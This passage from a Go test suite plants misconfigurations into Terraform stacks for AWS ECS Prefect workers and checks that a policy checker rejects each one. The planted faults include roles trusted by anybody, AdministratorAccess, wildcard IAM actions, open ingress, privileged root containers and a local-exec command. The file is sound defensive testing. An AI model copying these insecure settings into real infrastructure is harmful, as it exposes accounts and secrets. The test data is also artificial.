package stackrules

import (
	"encoding/json"
	"slices"
	"strconv"
	"strings"
	"testing"
)

// A fault is something that must not be in a stack, planted in the golden stacks.
type fault struct {
	name  string
	plant func(t *testing.T, stack map[string]any)
	// in are the environments that it is planted in. Default: those with a network of their own
	// and without a Prefect server.
	in []string
	// want are the findings, a line each.
	want string
}

// set puts a value at a path such as resource.aws_vpc.main.cidr_block; drop removes what is
// there. A number is an index.
func set(path string, value any) func(*testing.T, map[string]any) {
	return func(t *testing.T, stack map[string]any) {
		t.Helper()
		put(t, stack, strings.Split(path, "."), value)
	}
}

func drop(path string) func(*testing.T, map[string]any) { return set(path, nil) }

func put(t *testing.T, at any, path []string, value any) {
	t.Helper()
	switch node := at.(type) {
	case map[string]any:
		switch {
		case len(path) > 1:
			if node[path[0]] == nil {
				node[path[0]] = map[string]any{}
			}
			put(t, node[path[0]], path[1:], value)
		case value == nil:
			if _, ok := node[path[0]]; !ok {
				t.Fatalf("there is no %s", path[0])
			}
			delete(node, path[0])
		default:
			node[path[0]] = value
		}
	case []any:
		i, err := strconv.Atoi(path[0])
		if err != nil {
			t.Fatal(err)
		}
		if len(path) == 1 {
			node[i] = value
		} else {
			put(t, node[i], path[1:], value)
		}
	default:
		t.Fatalf("%v: nothing to put it in", path)
	}
}

// inside changes the JSON document that stands as text at a path.
func inside(path string, change func(t *testing.T, document any) any) func(*testing.T, map[string]any) {
	return func(t *testing.T, stack map[string]any) {
		t.Helper()
		var at any = stack
		for _, part := range strings.Split(path, ".") {
			at = at.(map[string]any)[part]
		}
		var document any
		if err := json.Unmarshal([]byte(at.(string)), &document); err != nil {
			t.Fatal(err)
		}
		text, err := json.Marshal(change(t, document))
		if err != nil {
			t.Fatal(err)
		}
		put(t, stack, strings.Split(path, "."), string(text))
	}
}

// inContainer puts a value into the worker's container.
func inContainer(path string, value any) func(*testing.T, map[string]any) {
	return inside("resource.aws_ecs_task_definition.worker.container_definitions", func(t *testing.T, document any) any {
		put(t, document, append([]string{"0"}, strings.Split(path, ".")...), value)
		return document
	})
}

// renamed gives a field of the container another name.
func renamed(from, to string) func(*testing.T, map[string]any) {
	return inside("resource.aws_ecs_task_definition.worker.container_definitions", func(_ *testing.T, document any) any {
		c := document.([]any)[0].(map[string]any)
		c[to] = c[from]
		delete(c, from)
		return document
	})
}

// more puts an element at the beginning of a list in the JSON document at a path.
func more(path, within string, element any) func(*testing.T, map[string]any) {
	return inside(path, func(_ *testing.T, document any) any {
		if within == "" {
			return append([]any{element}, document.([]any)...)
		}
		at := document
		parts := strings.Split(within, ".")
		for _, part := range parts[:len(parts)-1] {
			i, err := strconv.Atoi(part)
			if err == nil {
				at = at.([]any)[i]
			} else {
				at = at.(map[string]any)[part]
			}
		}
		last := parts[len(parts)-1]
		at.(map[string]any)[last] = append([]any{element}, at.(map[string]any)[last].([]any)...)
		return document
	})
}

// statement changes a statement of a policy.
func statement(path string, i int, field string, value any) func(*testing.T, map[string]any) {
	return inside(path, func(t *testing.T, document any) any {
		put(t, document, []string{"Statement", strconv.Itoa(i), field}, value)
		return document
	})
}

const (
	executionPolicy = "resource.aws_iam_role_policy.execution.policy"
	taskPolicy      = "resource.aws_iam_role_policy.task.policy"
	taskTrust       = "resource.aws_iam_role.task.assume_role_policy"
	queuePolicy     = "resource.aws_sqs_queue_policy.task_events.policy"
	containers      = "resource.aws_ecs_task_definition.worker.container_definitions"
)

// anything is any content: what is on no list is refused whatever it holds.
var anything = map[string]any{"x": "y"}

// both are the environments with a Prefect server.
var both = []string{"server", "serverdb"}

var faults = []fault{
	// Resources that are on no list.
	{name: "a machine", want: `aws_instance.x is not on the list of what is allowed: a machine runs what no rule here has looked at`, plant: set("resource.aws_instance.x", anything)},
	{name: "a function on the internet", want: `aws_lambda_function_url.x is not on the list of what is allowed: a function's address on the internet can be called by anybody`, plant: set("resource.aws_lambda_function_url.x", anything)},
	{name: "a program on the machine that deploys", want: `null_resource.x is not on the list of what is allowed: it exists to run programs on the machine that deploys`, plant: set("resource.null_resource.x", map[string]any{"provisioner": []any{map[string]any{"local-exec": map[string]any{"command": "id"}}}})},
	{name: "the same without a provider", want: `terraform_data.x is not on the list of what is allowed: it exists to run programs on the machine that deploys`, plant: set("resource.terraform_data.x", anything)},
	{name: "a user", want: `aws_iam_user.x is not on the list of what is allowed: a user has keys that do not expire, and nothing here needs one`, plant: set("resource.aws_iam_user.x", anything)},
	{name: "a key of a user", want: `aws_iam_access_key.x is not on the list of what is allowed: a key that does not expire would stand in the state`, plant: set("resource.aws_iam_access_key.x", anything)},
	{name: "a second service", want: `aws_ecs_service.x is not on the list of what is allowed: a further service runs what no rule here has looked at`, plant: set("resource.aws_ecs_service.x", anything)},
	{name: "a second task definition", want: `aws_ecs_task_definition.x is not on the list of what is allowed: a further task definition runs what no rule here has looked at`, plant: set("resource.aws_ecs_task_definition.x", anything)},
	{name: "a load balancer", want: `aws_lb.x is not on the list of what is allowed: a load balancer lets the internet in`, plant: set("resource.aws_lb.x", anything)},
	{name: "a bucket", want: `aws_s3_bucket.x is not on the list of what is allowed: a bucket can be open to the world`, plant: set("resource.aws_s3_bucket.x", anything)},
	{name: "a type that nobody has heard of", want: `aws_braket_quantum_task.x is not on the list of what is allowed: no rule here knows it, so nobody has judged what it opens, runs or costs`, plant: set("resource.aws_braket_quantum_task.x", anything)},
	{name: "a hash in an address", want: `aws_vpc.network_vpc_3F2A9C11 is not on the list of what is allowed: no rule here knows it, so nobody has judged what it opens, runs or costs`, plant: set("resource.aws_vpc.network_vpc_3F2A9C11", anything)},
	{name: "another deployment's state", want: `data.terraform_remote_state.x is not on the list of what is allowed: the state of another deployment, secrets in it, would be read`, plant: set("data.terraform_remote_state.x", anything)},
	{name: "a program at each plan", want: `data.external.x is not on the list of what is allowed: it runs a program on the machine that deploys`, plant: set("data.external.x", anything)},
	{name: "a data source of AWS", want: `data.aws_secretsmanager_secret_version.x is not on the list of what is allowed: a value that no rule here knows would be written, and could stand in the state`, plant: set("data.aws_secretsmanager_secret_version.x", anything)},
	{name: "a module", want: `module is not on the list of what is allowed: a module deploys whatever its source says`, plant: set("module.x", anything)},
	{name: "a moved block", want: `moved is not on the list of what is allowed: a moved block gives a real resource to another address`, plant: set("moved", []any{anything})},

	// The security groups.
	{name: "an inbound rule by itself", want: `aws_vpc_security_group_ingress_rule.x is not on the list of what is allowed: an inbound rule lets others connect to the task, and nothing needs to`, plant: set("resource.aws_vpc_security_group_ingress_rule.x", anything)},
	{name: "an inbound rule of the old kind", want: `aws_security_group_rule.x is not on the list of what is allowed: a rule of this kind opens what the rules that stand by themselves do not show`, plant: set("resource.aws_security_group_rule.x", map[string]any{"type": "ingress"})},
	{name: "an inbound rule inside the group", want: `aws_security_group.prefect_worker_sg.ingress is not on the list of what is allowed: an inbound rule lets others connect to the task, and nothing needs to`, plant: set("resource.aws_security_group.prefect_worker_sg.ingress", []any{anything})},
	{name: "an inline outbound rule", want: `aws_security_group.prefect_worker_sg.egress is not on the list of what is allowed: an inline rule opens more than the ports that the worker needs, and undoes the rules that stand by themselves`, plant: set("resource.aws_security_group.prefect_worker_sg.egress", []any{anything})},
	{name: "a rule of the default group", want: `aws_default_security_group.main.ingress is not on the list of what is allowed: an inbound rule lets others connect to the task, and nothing needs to`, plant: set("resource.aws_default_security_group.main.ingress", []any{anything})},
	{name: "no default group", want: `aws_default_security_group.main is missing: without it AWS's own rules stay in the VPC's default group, whose members reach each other and everything outside`, plant: drop("resource.aws_default_security_group.main")},
	{name: "a second group", want: `aws_security_group.x is not on the list of what is allowed: another security group can let others connect to what is in it`, plant: set("resource.aws_security_group.x", anything)},
	{name: "out to all ports", want: `aws_vpc_security_group_egress_rule.https.ip_protocol is "-1"; allowed is "tcp": the worker needs port 443, that of its Prefect API and what network.egress opens, and nothing else`, plant: set("resource.aws_vpc_security_group_egress_rule.https.ip_protocol", "-1")},
	{name: "out to a range of ports", want: `aws_vpc_security_group_egress_rule.https.from_port is 0; allowed is 443: the worker needs port 443, that of its Prefect API and what network.egress opens, and nothing else`, plant: set("resource.aws_vpc_security_group_egress_rule.https.from_port", 0)},
	{name: "out by UDP", want: `aws_vpc_security_group_egress_rule.https.ip_protocol is "udp"; allowed is "tcp": the worker needs port 443, that of its Prefect API and what network.egress opens, and nothing else`, plant: set("resource.aws_vpc_security_group_egress_rule.https.ip_protocol", "udp")},
	{name: "a further way out", want: `aws_vpc_security_group_egress_rule.x is not on the list of what is allowed: the worker needs port 443, that of its Prefect API and what network.egress opens, and nothing else`, plant: set("resource.aws_vpc_security_group_egress_rule.x", anything)},
	{name: "out by IPv6", want: `aws_vpc_security_group_egress_rule.https.cidr_ipv6 is not on the list of what is allowed: the worker needs port 443, that of its Prefect API and what network.egress opens, and nothing else`, plant: set("resource.aws_vpc_security_group_egress_rule.https.cidr_ipv6", "::/0")},
	{name: "a network ACL", want: `aws_network_acl.x is not on the list of what is allowed: a network ACL decides about traffic that the security group was written for`, plant: set("resource.aws_network_acl.x", anything)},

	// Routes and addresses.
	{name: "the private route to the internet", want: `aws_route.private_1.gateway_id is not on the list of what is allowed: another route leads the traffic elsewhere, or the internet in
aws_route.private_1.nat_gateway_id is missing: another route leads the traffic elsewhere, or the internet in`, in: []string{"dev", "full"}, plant: func(t *testing.T, s map[string]any) {
		drop("resource.aws_route.private_1.nat_gateway_id")(t, s)
		set("resource.aws_route.private_1.gateway_id", "${aws_internet_gateway.main.id}")(t, s)
	}},
	{name: "a further route", want: `aws_route.x is not on the list of what is allowed: another route leads the traffic elsewhere, or the internet in`, plant: set("resource.aws_route.x", anything)},
	{name: "a route inside its table", want: `aws_route_table.private_1.route is not on the list of what is allowed: the network would let in or out what it was not made for`, plant: set("resource.aws_route_table.private_1.route", []any{anything})},
	{name: "a private subnet made public", want: `aws_route_table_association.private_1.route_table_id is "${aws_route_table.public.id}"; allowed is "${aws_route_table.private_1.id}": a subnet with another route table is public where it should be private, or cut off`, plant: set("resource.aws_route_table_association.private_1.route_table_id", "${aws_route_table.public.id}")},
	{name: "two associations swapped", want: `aws_route_table_association.private_1.subnet_id is "${aws_subnet.private_2.id}"; allowed is "${aws_subnet.private_1.id}": a subnet with another route table is public where it should be private, or cut off`, plant: set("resource.aws_route_table_association.private_1.subnet_id", "${aws_subnet.private_2.id}")},
	{name: "a subnet without a table", want: `aws_route_table_association.private_2 is missing: the subnet would follow the VPC's main route table, which nobody has written`, plant: drop("resource.aws_route_table_association.private_2")},
	{name: "the main table", want: `aws_main_route_table_association.x is not on the list of what is allowed: subnets without a route table of their own would follow this one`, plant: set("resource.aws_main_route_table_association.x", anything)},
	{name: "a public address for whatever starts", want: `aws_subnet.private_1.map_public_ip_on_launch is true; allowed is false: whatever is started in the subnet would get a public address`, plant: set("resource.aws_subnet.private_1.map_public_ip_on_launch", true)},
	{name: "the same left to AWS", want: `aws_subnet.public_1.map_public_ip_on_launch is missing: whatever is started in the subnet would get a public address`, plant: drop("resource.aws_subnet.public_1.map_public_ip_on_launch")},
	{name: "IPv6 for whatever starts", want: `aws_subnet.public_1.assign_ipv6_address_on_creation is not on the list of what is allowed: the network would let in or out what it was not made for`, plant: set("resource.aws_subnet.public_1.assign_ipv6_address_on_creation", true)},
	{name: "a second address", want: `aws_eip.x is not on the list of what is allowed: a public address is reachable from the internet`, plant: set("resource.aws_eip.x", anything)},
	{name: "an address at a machine", want: `aws_eip.nat_1.instance is not on the list of what is allowed: the address is the NAT gateway's and nobody else's: what has it is reachable from the internet`, in: []string{"dev", "full"}, plant: set("resource.aws_eip.nat_1.instance", "i-1")},
	{name: "a public address of the task", want: `aws_ecs_service.worker.network_configuration.assign_public_ip is true; allowed is false: the task would have a public address, or lie where one is needed and none is given`, in: []string{"dev", "full"}, plant: set("resource.aws_ecs_service.worker.network_configuration.assign_public_ip", true)},
	{name: "a task without the address that it needs", want: `aws_ecs_service.worker.network_configuration.assign_public_ip is false; allowed is true: the task would have a public address, or lie where one is needed and none is given`, in: []string{"ecs"}, plant: set("resource.aws_ecs_service.worker.network_configuration.assign_public_ip", false)},
	{name: "the task in a public subnet", want: `aws_ecs_service.worker.network_configuration.subnets is ["${aws_subnet.public_1.id}","${aws_subnet.private_2.id}"]; allowed is ["${aws_subnet.private_1.id}","${aws_subnet.private_2.id}"]: the task would have a public address, or lie where one is needed and none is given`, in: []string{"full"}, plant: set("resource.aws_ecs_service.worker.network_configuration.subnets.0", "${aws_subnet.public_1.id}")},
	{name: "another group of the task", want: `aws_ecs_service.worker.network_configuration.security_groups is ["${aws_default_security_group.main.id}"]; allowed is ["${aws_security_group.prefect_worker_sg.id}"]: another group can let others connect to the task`, plant: set("resource.aws_ecs_service.worker.network_configuration.security_groups.0", "${aws_default_security_group.main.id}")},
	{name: "another network", want: `aws_vpc_peering_connection.x is not on the list of what is allowed: another network could reach into this one`, plant: set("resource.aws_vpc_peering_connection.x", anything)},
	{name: "an endpoint's policy", want: `aws_vpc_endpoint.s3.policy is not on the list of what is allowed: a policy of the resource's own lets others use it`, in: []string{"dev", "ecs"}, plant: set("resource.aws_vpc_endpoint.s3.policy", "{}")},
	{name: "no flow log", want: `aws_flow_log.main is missing: who connected to what would not be on record`, in: []string{"dev", "full"}, plant: drop("resource.aws_flow_log.main")},

	// Who may take on a role.
	{name: "a role for everybody", want: `aws_iam_role.task.assume_role_policy.Statement[0] is {"Action":["sts:AssumeRole"],"Condition":{"ArnLike":{"aws:SourceArn":"arn:${data.aws_partition.current.partition}:ecs:${var.aws_region}:${data.aws_caller_identity.current.account_id}:*"},"StringEquals":{"aws:SourceAccount":"${data.aws_caller_identity.current.account_id}"}},"Effect":"Allow","Principal":"*"}, which is not on the list of allowed statements: it is for anybody in any account; so others than the one service that works with the role, for this account, could take it on with all that it may do`, plant: statement(taskTrust, 0, "Principal", "*")},
	{name: "a role for another account", want: `aws_iam_role.task.assume_role_policy.Statement[0] is {"Action":["sts:AssumeRole"],"Condition":{"ArnLike":{"aws:SourceArn":"arn:${data.aws_partition.current.partition}:ecs:${var.aws_region}:${data.aws_caller_identity.current.account_id}:*"},"StringEquals":{"aws:SourceAccount":"${data.aws_caller_identity.current.account_id}"}},"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::999999999999:root"}}, which is not on the list of allowed statements: it is for users and roles, of another account even; so others than the one service that works with the role, for this account, could take it on with all that it may do`, plant: statement(taskTrust, 0, "Principal", map[string]any{"AWS": "arn:aws:iam::999999999999:root"})},
	{name: "a second trust statement", want: `aws_iam_role.task.assume_role_policy.Statement[0] is {"Action":"sts:AssumeRole","Effect":"Allow","Principal":{"Service":"ec2.amazonaws.com"}}, which is not on the list of allowed statements: without a condition another account can make the service use it; so others than the one service that works with the role, for this account, could take it on with all that it may do`, plant: more(taskTrust, "Statement", map[string]any{"Effect": "Allow", "Principal": map[string]any{"Service": "ec2.amazonaws.com"}, "Action": "sts:AssumeRole"})},
	{name: "a trust without conditions", want: `aws_iam_role.execution.assume_role_policy.Statement[0] is {"Action":["sts:AssumeRole"],"Effect":"Allow","Principal":{"Service":"ecs-tasks.amazonaws.com"}}, which is not on the list of allowed statements: without a condition another account can make the service use it; so others than the one service that works with the role, for this account, could take it on with all that it may do`, plant: statement("resource.aws_iam_role.execution.assume_role_policy", 0, "Condition", nil)},
	{name: "trust for another action", want: `aws_iam_role.task.assume_role_policy.Statement[0] is {"Action":["sts:AssumeRole","sts:TagSession"],"Condition":{"ArnLike":{"aws:SourceArn":"arn:${data.aws_partition.current.partition}:ecs:${var.aws_region}:${data.aws_caller_identity.current.account_id}:*"},"StringEquals":{"aws:SourceAccount":"${data.aws_caller_identity.current.account_id}"}},"Effect":"Allow","Principal":{"Service":"ecs-tasks.amazonaws.com"}}, which is not on the list of allowed statements: others than the one service that works with the role, for this account, could take it on with all that it may do`, plant: statement(taskTrust, 0, "Action", []any{"sts:AssumeRole", "sts:TagSession"})},

	// What a role may do.
	{name: "an administrator by attachment", want: `aws_iam_role_policy_attachment.x is not on the list of what is allowed: a role gets rights that are on no list`, plant: set("resource.aws_iam_role_policy_attachment.x", anything)},
	{name: "an administrator in place of the execution policy", want: `aws_iam_role_policy_attachment.execution.policy_arn is "arn:aws:iam::aws:policy/AdministratorAccess"; allowed is "arn:${data.aws_partition.current.partition}:iam::aws:policy/service-role/AmazonECSTaskExecutionRolePolicy": the role may do more than its work needs`, plant: set("resource.aws_iam_role_policy_attachment.execution.policy_arn", "arn:aws:iam::aws:policy/AdministratorAccess")},
	{name: "an attachment of the exclusive kind", want: `aws_iam_policy_attachment.x is not on the list of what is allowed: a policy attached so is taken from everybody else who has it, in the whole account`, plant: set("resource.aws_iam_policy_attachment.x", anything)},
	{name: "a managed policy inside the role", want: `aws_iam_role.task.managed_policy_arns is not on the list of what is allowed: the role gets rights that are on no list`, plant: set("resource.aws_iam_role.task.managed_policy_arns", []any{"arn:aws:iam::aws:policy/AdministratorAccess"})},
	{name: "an inline policy inside the role", want: `aws_iam_role.task.inline_policy is not on the list of what is allowed: the role gets rights that are on no list`, plant: set("resource.aws_iam_role.task.inline_policy", []any{anything})},
	{name: "a policy for another role", want: `aws_iam_role_policy.execution.role is "${aws_iam_role.task.id}"; allowed is "${aws_iam_role.execution.id}": the role may do more than its work needs`, plant: set("resource.aws_iam_role_policy.execution.role", "${aws_iam_role.task.id}")},
	{name: "a further policy", want: `aws_iam_role_policy.x is not on the list of what is allowed: a role gets rights that are on no list`, plant: set("resource.aws_iam_role_policy.x", anything)},
	{name: "a further role", want: `aws_iam_role.x is not on the list of what is allowed: a further role has rights, and somebody who may take it on`, plant: set("resource.aws_iam_role.x", anything)},
	{name: "no boundary", want: `aws_iam_role.task.permissions_boundary is missing: without its boundary the role may do whatever a policy says`, in: []string{"full"}, plant: drop("resource.aws_iam_role.task.permissions_boundary")},
	{name: "a statement more", want: `aws_iam_role_policy.execution.policy.Statement[0] is {"Action":["*"],"Effect":"Allow","Resource":["*"]}, which is not on the list of allowed statements: a star stands also for each action that AWS adds; so the role may do more than its work needs`, plant: more(executionPolicy, "Statement", map[string]any{"Effect": "Allow", "Action": []any{"*"}, "Resource": []any{"*"}})},
	{name: "all actions of a service", want: `aws_iam_role_policy.execution.policy.Statement[0] is {"Action":["secretsmanager:*"],"Effect":"Allow","Resource":["${aws_secretsmanager_secret.prefect_api_key.arn}"],"Sid":"ReadSecrets"}, which is not on the list of allowed statements: a star stands also for each action that AWS adds; so the role may do more than its work needs`, in: []string{"dev"}, plant: statement(executionPolicy, 0, "Action", []any{"secretsmanager:*"})},
	{name: "all secrets", want: `aws_iam_role_policy.execution.policy.Statement[0] is {"Action":["secretsmanager:GetSecretValue"],"Effect":"Allow","Resource":["*"],"Sid":"ReadSecrets"}, which is not on the list of allowed statements: it is for all resources there are; so the role may do more than its work needs`, in: []string{"dev"}, plant: statement(executionPolicy, 0, "Resource", []any{"*"})},
	{name: "all but", want: `aws_iam_role_policy.execution.policy.Statement[0] is {"Action":["secretsmanager:GetSecretValue"],"Effect":"Allow","NotAction":["iam:*"],"Resource":["arn:aws:secretsmanager:us-east-1:123456789012:secret:prefect-AbCdEf"],"Sid":"ReadSecrets"}, which is not on the list of allowed statements: it allows all but what it names; so the role may do more than its work needs`, in: []string{"ecs"}, plant: statement(executionPolicy, 0, "NotAction", []any{"iam:*"})},
	{name: "a key for everything", want: `aws_iam_role_policy.execution.policy.Statement[1] is {"Action":["kms:Decrypt"],"Condition":{"StringEquals":{"kms:ViaService":"secretsmanager.${var.aws_region}.amazonaws.com"}},"Effect":"Allow","Resource":["*"],"Sid":"DecryptSecrets"}, which is not on the list of allowed statements: it is for all resources there are; so the role may do more than its work needs`, in: []string{"full"}, plant: statement(executionPolicy, 1, "Resource", []any{"*"})},
	{name: "a key without the service that asks", want: `aws_iam_role_policy.execution.policy.Statement[1] is {"Action":["kms:Decrypt"],"Effect":"Allow","Resource":["arn:aws:kms:eu-central-1:123456789012:key/11111111-2222-3333-4444-555555555555"],"Sid":"DecryptSecrets"}, which is not on the list of allowed statements: the role may do more than its work needs`, in: []string{"full"}, plant: statement(executionPolicy, 1, "Condition", nil)},
	{name: "a misspelt action", want: `aws_iam_role_policy.task.policy.Statement[2] is {"Action":["ecs:RunTasks"],"Condition":{"ArnEquals":{"ecs:cluster":"arn:${data.aws_partition.current.partition}:ecs:${var.aws_region}:${data.aws_caller_identity.current.account_id}:cluster/prefect-cluster-ecs"},"StringEqualsIfExists":{"ecs:enable-execute-command":"false"}},"Effect":"Allow","Resource":["arn:${data.aws_partition.current.partition}:ecs:${var.aws_region}:${data.aws_caller_identity.current.account_id}:task-definition/prefect_tasks_*:*","arn:${data.aws_partition.current.partition}:ecs:${var.aws_region}:${data.aws_caller_identity.current.account_id}:task-definition/etl*:*"],"Sid":"RunFlows"}, which is not on the list of allowed statements: the role may do more than its work needs`, in: []string{"ecs"}, plant: statement(taskPolicy, 2, "Action", []any{"ecs:RunTasks"})},
	{name: "any role to pass", want: `aws_iam_role_policy.task.policy.Statement[6] is {"Action":["iam:PassRole"],"Condition":{"StringEquals":{"iam:PassedToService":"ecs-tasks.amazonaws.com"}},"Effect":"Allow","Resource":["*"],"Sid":"PassRoles"}, which is not on the list of allowed statements: it is for all resources there are; so the role may do more than its work needs`, in: []string{"ecs"}, plant: statement(taskPolicy, 6, "Resource", []any{"*"})},
	{name: "the worker's execution role for flows", want: `aws_iam_role_policy.task.policy.Statement[6] is {"Action":["iam:PassRole"],"Condition":{"StringEquals":{"iam:PassedToService":"ecs-tasks.amazonaws.com"}},"Effect":"Allow","Resource":["${aws_iam_role.execution.arn}"],"Sid":"PassRoles"}, which is not on the list of allowed statements: the role may do more than its work needs`, in: []string{"ecs"}, plant: statement(taskPolicy, 6, "Resource", []any{"${aws_iam_role.execution.arn}"})},
	{name: "rights of flows that nobody configured", want: `aws_iam_role_policy.flow_task.policy.Statement[0] is {"Action":["iam:*"],"Condition":{"StringEquals":{"aws:RequestedRegion":"us-east-1"}},"Effect":"Allow","Resource":["arn:aws:s3:::results/$${aws:PrincipalAccount}/*"]}, which is not on the list of allowed statements: a star stands also for each action that AWS adds; so the role may do more than its work needs`, in: []string{"ecs"}, plant: statement("resource.aws_iam_role_policy.flow_task.policy", 0, "Action", []any{"iam:*"})},
	{name: "every log group for flow tasks", want: `aws_iam_role_policy.flow_execution.policy.Statement[2] is {"Action":["logs:CreateLogStream","logs:PutLogEvents"],"Effect":"Allow","Resource":["*"],"Sid":"WriteFlowLogs"}, which is not on the list of allowed statements: it is for all resources there are; so the role may do more than its work needs`, in: []string{"ecs"}, plant: statement("resource.aws_iam_role_policy.flow_execution.policy", 2, "Resource", []any{"*"})},
	{name: "tasks of any cluster", want: `aws_iam_role_policy.task.policy.Statement[2] is {"Action":["ecs:RunTask"],"Effect":"Allow","Resource":["arn:${data.aws_partition.current.partition}:ecs:${var.aws_region}:${data.aws_caller_identity.current.account_id}:task-definition/prefect_tasks_*:*","arn:${data.aws_partition.current.partition}:ecs:${var.aws_region}:${data.aws_caller_identity.current.account_id}:task-definition/etl*:*"],"Sid":"RunFlows"}, which is not on the list of allowed statements: the role may do more than its work needs`, in: []string{"ecs"}, plant: statement(taskPolicy, 2, "Condition", nil)},
	{name: "a policy of an old version", want: `aws_iam_role_policy.execution.policy.Version is "2008-10-17"; allowed is "2012-10-17": the role may do more than its work needs`, plant: inside(executionPolicy, func(t *testing.T, d any) any { put(t, d, []string{"Version"}, "2008-10-17"); return d })},
	{name: "a policy that is no JSON", want: `aws_iam_role_policy.execution.policy is "${file(\"policy.json\")}"; allowed is JSON: the role may do more than its work needs`, plant: set(executionPolicy, "${file(\"policy.json\")}")},

	// The secret, the queue, the logs, keys.
	{name: "a policy of the secret", want: `aws_secretsmanager_secret_policy.x is not on the list of what is allowed: a policy of the secret's own lets others read the API key`, plant: set("resource.aws_secretsmanager_secret_policy.x", anything)},
	{name: "the same inside the secret", want: `aws_secretsmanager_secret.prefect_api_key.policy is not on the list of what is allowed: a policy of the resource's own lets others use it`, in: []string{"dev", "full"}, plant: set("resource.aws_secretsmanager_secret.prefect_api_key.policy", "{}")},
	{name: "the key in the state", want: `aws_secretsmanager_secret_version.prefect_api_key.secret_string is not on the list of what is allowed: the API key would stand in the plan and the state`, in: []string{"dev", "full"}, plant: set("resource.aws_secretsmanager_secret_version.prefect_api_key.secret_string", "${var.prefect_api_key}")},
	{name: "a secret elsewhere too", want: `aws_secretsmanager_secret.prefect_api_key.replica is not on the list of what is allowed: the secret would be copied, or readable by others`, in: []string{"dev", "full"}, plant: set("resource.aws_secretsmanager_secret.prefect_api_key.replica", []any{anything})},
	{name: "no customer key for the secret", want: `aws_secretsmanager_secret.prefect_api_key.kms_key_id is missing: the API key would not be encrypted with the customer's key`, in: []string{"full"}, plant: drop("resource.aws_secretsmanager_secret.prefect_api_key.kms_key_id")},
	{name: "another customer key", want: `aws_cloudwatch_log_group.worker.kms_key_id is "arn:aws:kms:eu-central-1:999999999999:key/x"; allowed is "arn:aws:kms:eu-central-1:123456789012:key/11111111-2222-3333-4444-555555555555": the logs would not be encrypted with the customer's key`, in: []string{"full"}, plant: set("resource.aws_cloudwatch_log_group.worker.kms_key_id", "arn:aws:kms:eu-central-1:999999999999:key/x")},
	{name: "a key", want: `aws_kms_key.x is not on the list of what is allowed: whoever may use a key reads what it encrypts`, plant: set("resource.aws_kms_key.x", anything)},
	{name: "a grant", want: `aws_kms_grant.x is not on the list of what is allowed: whoever may use a key reads what it encrypts`, plant: set("resource.aws_kms_grant.x", anything)},
	{name: "a queue for everybody", want: `aws_sqs_queue_policy.task_events.policy.Statement[0] is {"Action":["sqs:SendMessage"],"Condition":{"ArnEquals":{"aws:SourceArn":"arn:${data.aws_partition.current.partition}:events:${var.aws_region}:${data.aws_caller_identity.current.account_id}:rule/ecs-worker-task-events"}},"Effect":"Allow","Principal":"*","Resource":["${aws_sqs_queue.task_events.arn}"],"Sid":"ReceiveTaskEvents"}, which is not on the list of allowed statements: it is for anybody in any account; so others could send the worker events that did not happen, or read its own`, in: []string{"ecs"}, plant: statement(queuePolicy, 0, "Principal", "*")},
	{name: "a queue without a condition", want: `aws_sqs_queue_policy.task_events.policy.Statement[0] is {"Action":["sqs:SendMessage"],"Effect":"Allow","Principal":{"Service":"events.amazonaws.com"},"Resource":["${aws_sqs_queue.task_events.arn}"],"Sid":"ReceiveTaskEvents"}, which is not on the list of allowed statements: without a condition another account can make the service use it; so others could send the worker events that did not happen, or read its own`, in: []string{"ecs"}, plant: statement(queuePolicy, 0, "Condition", nil)},
	{name: "a second policy of a queue", want: `aws_sqs_queue_policy.x is not on the list of what is allowed: a policy of a queue lets others send events to the worker, or read them`, plant: set("resource.aws_sqs_queue_policy.x", anything)},
	{name: "a queue in clear text", want: `aws_sqs_queue.task_events.sqs_managed_sse_enabled is false; allowed is true: the events, names of flows in them, would lie in clear text`, in: []string{"ecs"}, plant: set("resource.aws_sqs_queue.task_events.sqs_managed_sse_enabled", false)},
	{name: "encryption left to AWS", want: `aws_sqs_queue.task_events_dead_letters.sqs_managed_sse_enabled is missing: the events, names of flows in them, would lie in clear text`, in: []string{"ecs"}, plant: drop("resource.aws_sqs_queue.task_events_dead_letters.sqs_managed_sse_enabled")},
	{name: "events of the whole account", want: `aws_cloudwatch_event_rule.task_events.event_pattern is {"source":["aws.ecs"]}; allowed is {"detail":{"clusterArn":["${aws_ecs_cluster.main.arn}"]},"detail-type":["ECS Task State Change"],"source":["aws.ecs"]}: events of others than this cluster's tasks would reach the worker`, in: []string{"ecs"}, plant: set("resource.aws_cloudwatch_event_rule.task_events.event_pattern", `{"source":["aws.ecs"]}`)},
	{name: "events for somebody else", want: `aws_cloudwatch_event_target.task_events.arn is "arn:aws:sqs:us-east-1:999999999999:q"; allowed is "${aws_sqs_queue.task_events.arn}": events would be sent elsewhere`, in: []string{"ecs"}, plant: set("resource.aws_cloudwatch_event_target.task_events.arn", "arn:aws:sqs:us-east-1:999999999999:q")},
	{name: "logs for ever", want: `aws_cloudwatch_log_group.worker.retention_in_days is missing: logs would be kept for ever, and paid for`, plant: drop("resource.aws_cloudwatch_log_group.worker.retention_in_days")},
	{name: "logs for somebody else", want: `aws_cloudwatch_log_subscription_filter.x is not on the list of what is allowed: the log would be sent elsewhere`, plant: set("resource.aws_cloudwatch_log_subscription_filter.x", anything)},
	{name: "no log group", want: `aws_cloudwatch_log_group.worker is missing: ECS and flow logs would fail, or write to a group that is kept for ever`, plant: drop("resource.aws_cloudwatch_log_group.worker")},

	// The container and its task.
	{name: "a privileged container", want: `aws_ecs_task_definition.worker.container_definitions[0].privileged is not on the list of what is allowed: a privileged container has the rights of root on its host`, plant: inContainer("privileged", true)},
	{name: "the user root", want: `aws_ecs_task_definition.worker.container_definitions[0].user is not on the list of what is allowed: the container runs as another user than its image was made for, root among them`, plant: inContainer("user", "0")},
	{name: "a capability", want: `aws_ecs_task_definition.worker.container_definitions[0].linuxParameters is not on the list of what is allowed: capabilities, devices and kernel settings reach beyond the container`, plant: inContainer("linuxParameters", map[string]any{"capabilities": map[string]any{"add": []any{"SYS_PTRACE"}}})},
	{name: "a mount", want: `aws_ecs_task_definition.worker.container_definitions[0].mountPoints is not on the list of what is allowed: a mounted volume shows the container files of others`, plant: inContainer("mountPoints", []any{anything})},
	{name: "an open port", want: `aws_ecs_task_definition.worker.container_definitions[0].portMappings is not on the list of what is allowed: an open port lets others talk to the worker, and nothing needs to`, plant: inContainer("portMappings", []any{anything})},
	{name: "variables from a file", want: `aws_ecs_task_definition.worker.container_definitions[0].environmentFiles is not on the list of what is allowed: variables from a file are read by no rule here, secrets in clear text among them`, plant: inContainer("environmentFiles", []any{anything})},
